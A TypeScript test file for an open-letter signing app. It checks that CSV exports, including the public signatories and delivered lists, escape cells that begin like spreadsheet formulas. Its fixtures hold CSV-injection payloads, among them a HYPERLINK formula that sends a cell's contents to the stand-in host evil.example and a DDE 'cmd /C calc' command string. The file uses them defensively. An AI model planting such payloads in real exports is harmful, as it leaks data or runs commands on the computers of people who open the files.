import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { signatures } from '#db/schema/index.ts';
import { deliverLetter } from '#lib/delivery/deliver-letter.ts';
import { deliveredCsv } from '#lib/delivery/delivered-list.ts';
import { csvLines } from '#lib/export/csv.ts';
import { signatoriesCsv } from '#lib/export/public-export.ts';
import { allSignatories } from '#lib/signing/list-signatories.ts';
import { signingContext } from './support/signing-context.ts';

/** What a spreadsheet would run: text whose first character is one of these. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A2,\n"Open")',
  '=HYPERLINK("https://evil.example/?"&A2,\r\n"Open")',
  '+1+cmd|\' /C calc\'!A0\nsecond line',
  '-2+3\rand more',
  '@SUM(1+1)\n',
  '\t=1+1\nx',
  '\r=1+1',
  '=1+1',
];
const plain = ['Adil Soz', 'Line one\n=not first', 'Say "hello", friends', ' =1 starts with a space', 'Правозащитное бюро «Әділ сөз»', ''];

const readBack = (csv: string) => parseCsv(csv, { bom: true, relax_column_count: true }) as string[][];

describe('a CSV cell', () => {
  it('that starts like a formula gets a leading quote mark, line breaks or not, and reads back otherwise exactly', () => {
    const cells = readBack(csvLines(formulas.map((value) => [value])));
    expect(cells.map(([cell]) => cell)).toEqual(formulas.map((value) => `'${value}`));
  });

  it('that does not start like a formula reads back exactly as written', () => {
    const cells = readBack(csvLines(plain.map((value) => [value])));
    expect(cells.map(([cell]) => cell ?? '')).toEqual(plain);
  });

  it('holding a number is written as the number, even a negative one', () => {
    expect(csvLines([[-5, 3]])).toBe('-5,3\r\n');
  });
});

describe('the public CSVs', () => {
  function contextWith(organization: string, statement: string) {
    const context = signingContext();
    const now = context.now;
    context.db
      .insert(signatures)
      .values({
        letter: 'test-letter', organization, statement, country: 'KZ', orgType: 'ngo', listing: 'named', status: 'published', email: 'dana@hrc.kz',
        emailKey: 'dana@hrc.kz', emailDomain: 'hrc.kz', trust: 'domain-match', locale: 'en', organizationKey: 'k', organizationSearch: 's',
        createdAt: now, updatedAt: now, verifiedAt: now, publishedAt: now,
      })
      .run();
    return context;
  }
  // Stored before input refused such names, or by any other path into the database.
  const organization = '=HYPERLINK("https://evil.example/?"&A2,\n"Open")';
  const statement = '@SUM(A1:A9)\r\nsecond line';

  it('signatories.csv escapes a name and a statement that start like a formula and hold a line break', () => {
    const context = contextWith(organization, statement);
    const [header, row] = readBack(signatoriesCsv(allSignatories(context.db, 'test-letter')));
    expect(row![header!.indexOf('organization')]).toBe(`'${organization}`);
    expect(row![header!.indexOf('statement')]).toBe(`'${statement}`);
  });

  it('delivered.csv, frozen at delivery, escapes them the same way', () => {
    const context = contextWith(organization, statement);
    deliverLetter(context, { email: 'staff@example.org' }, { letter: 'test-letter', deliveredOn: context.now, recipients: [0, 1] });
    const [header, row] = readBack(deliveredCsv(context.db, 'test-letter')!);
    expect(row![header!.indexOf('organization')]).toBe(`'${organization}`);
    expect(row![header!.indexOf('statement')]).toBe(`'${statement}`);
  });
});
